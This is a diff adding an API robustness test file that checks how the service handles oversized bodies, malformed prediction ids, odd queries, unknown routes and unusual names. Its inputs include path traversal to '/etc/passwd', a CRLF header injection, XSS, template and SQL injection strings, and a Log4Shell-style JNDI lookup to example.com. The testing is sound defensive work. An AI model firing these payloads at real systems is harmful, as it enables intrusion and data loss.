@@ -1,0 +1,90 @@
+import { beforeAll, describe, expect, inject, it } from 'vitest';
+import { type Account, ApiClient } from '#tests/support/api-client.ts';
+import { expectClearError } from './support/expect-clear-error.ts';
+
+const api = new ApiClient(inject('serverUrl'));
+
+let user: Account;
+let predictionId: string;
+let before: Awaited<ReturnType<ApiClient['readAccount']>>;
+beforeAll(async () => {
+  user = await api.register();
+  predictionId = await api.predict(user.token);
+  before = await api.readAccount(user.token);
+});
+
+describe('a body above 10 MB', () => {
+  it('is refused while it is sent, and the next request succeeds', async () => {
+    const body = Buffer.alloc(11 * 1024 * 1024, 'x');
+    const response = await api.call('login', { body }).catch((error: NodeJS.ErrnoException) => error);
+    // The gateway may close the connection before the client has sent everything.
+    if (response instanceof Error) expect(['ECONNRESET', 'EPIPE']).toContain(response.code);
+    else expectClearError(response, 'payload_too_large');
+    expect(await api.readAccount(user.token)).toEqual(before);
+  });
+});
+
+describe('a prediction id', () => {
+  const ids: Record<string, (id: string) => string> = {
+    'with a zero byte': (id) => `${id}%00`,
+    'with broken percent-encoding': () => '%E0%A4%A',
+    'with percent-encoded bytes that are not UTF-8': () => '%ff%fe',
+    'with an encoded path to a parent': () => '..%2f..%2fusers%2fprofile',
+    'with a line break and a header': () => 'x%0d%0aSet-Cookie:%20a=b',
+    'with the prefix of its sort key': (id) => `PREDICTION%23${id}`,
+    'of 4,000 letters': () => 'A'.repeat(4000),
+    'with letters beyond ASCII': () => encodeURIComponent('ｐｒｅｄｉｃｔｉｏｎ'),
+  };
+
+  it.each(Object.keys(ids))('%s returns 404 and deletes nothing', async (kind) => {
+    const path = `/api/predictions/delete/${ids[kind]?.(predictionId)}/`;
+    expectClearError(await api.call('delete-prediction', { token: user.token, path }), 'not_found');
+    expect(await api.readAccount(user.token)).toEqual(before);
+  });
+});
+
+describe('a query', () => {
+  it.each(['%E0%A4%A', 'limit=%ff', 'limit=1&limit=abc', '__proto__=1', 'a[b]=1', '?????', '&&=&'])(
+    'of %s returns 200 or 400',
+    async (query) => {
+      const path = `/api/predictions/history/?${query}`;
+      const { status } = await api.call('list-predictions', { token: user.token, path });
+      expect([200, 400]).toContain(status);
+    },
+  );
+});
+
+describe('a path', () => {
+  it.each([
+    '/api/',
+    '/api/users/',
+    '/api/users/profile/update/../../../predictions/history/../x',
+    '/api//users//profile/',
+    '/api/predictions/delete/a/b/',
+    '/api/%2e%2e/%2e%2e/etc/passwd',
+  ])('of no route returns a JSON error: %s', async (path) => {
+    const headers = { authorization: `Token ${user.token}` };
+    expectClearError(await api.send({ method: 'GET', path, headers }), 'not_found', 'method_not_allowed');
+  });
+
+  it.each(['GET', 'PATCH', 'PUT', 'TRACE'])('of a POST route refuses %s', async (method) => {
+    const { status, text } = await api.send({ method, path: '/api/predictions/car_insurance/' });
+    expect([403, 404, 405]).toContain(status);
+    expect(text).not.toContain('Error:');
+  });
+});
+
+describe('a name', () => {
+  it.each([
+    '<script>alert(1)</script>',
+    '"><img src=x onerror=alert(1)>',
+    '{{constructor.constructor("alert(1)")()}}',
+    "Robert'); DROP TABLE premia;--",
+    '\u0024{jndi:ldap://example.com/a}',
+    'محمد',
+    '👩‍👩‍👧',
+  ])('is stored and returned unchanged: %s', async (name) => {
+    const { token } = await api.register({ first_name: name, last_name: name });
+    expect((await api.readAccount(token)).profile).toMatchObject({ first_name: name, last_name: name });
+  });
+});
